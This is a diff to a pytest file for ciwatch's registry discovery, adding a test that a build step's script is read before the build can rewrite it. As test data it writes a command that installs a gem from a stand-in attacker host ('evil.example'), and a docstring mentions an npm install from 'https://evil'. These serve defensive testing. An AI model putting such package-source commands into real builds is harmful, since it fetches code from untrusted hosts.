@@ -11,11 +11,16 @@ import pytest
 from ciwatch.registries import discover_registries
 from ciwatch.registries._base import Context
 from ciwatch.registries.command_line import apt_options, commands, discover, option_values
+from ciwatch.session.registries import RegistryDiscovery
 
 
 def _ctx(tmp_path: Path, command: list[str]) -> Context:
     return Context(
-        project_dir=tmp_path, env={"PATH": ""}, deadline=time.monotonic() + 5, scratch=tmp_path, command=command
+        project_dir=tmp_path,
+        env={"PATH": ""},
+        deadline=time.monotonic() + 5,
+        scratch=tmp_path,
+        commands=commands(command, tmp_path),
     )
 
 
@@ -82,7 +87,7 @@ def test_what_names_no_registry(tmp_path: Path, command: list[str]) -> None:
 def test_a_hook_naming_a_registry_teaches_nothing(tmp_path: Path) -> None:
     """Discovery sees only the command ciwatch was given: ``npm ci`` names no registry,
     whatever its hooks will run (their own ``npm install --registry https://evil``)."""
-    found = discover_registries(tmp_path, {"PATH": "", "HOME": str(tmp_path)}, command=["npm", "ci"], timeout_s=5)
+    found = discover_registries(tmp_path, {"PATH": "", "HOME": str(tmp_path)}, commands=[["npm", "ci"]], timeout_s=5)
     assert [source.host for source in found] == []
 
 
@@ -128,3 +133,13 @@ def test_commands_split_like_the_shell(tmp_path: Path) -> None:
         ["f"],
     ]
     assert list(option_values(["x", "-sURL", "--s", "-s"], frozenset({"-s"}))) == [("-s", "URL")]
+
+
+def test_the_script_is_read_before_the_build_runs(tmp_path: Path) -> None:
+    """Discovery runs alongside the build: the step's script is read when discovery is set up
+    (before the build is released), so a build that rewrites it teaches nothing."""
+    script = tmp_path / "step.sh"
+    script.write_text("gem install --source https://gems.example/ x\n")
+    discovery = RegistryDiscovery(tmp_path, {"PATH": "", "HOME": str(tmp_path)}, ["bash", "-e", "step.sh"])
+    script.write_text("gem install --source https://evil.example/ x\n")
+    assert [source.host for source in discovery.result()] == ["gems.example"]
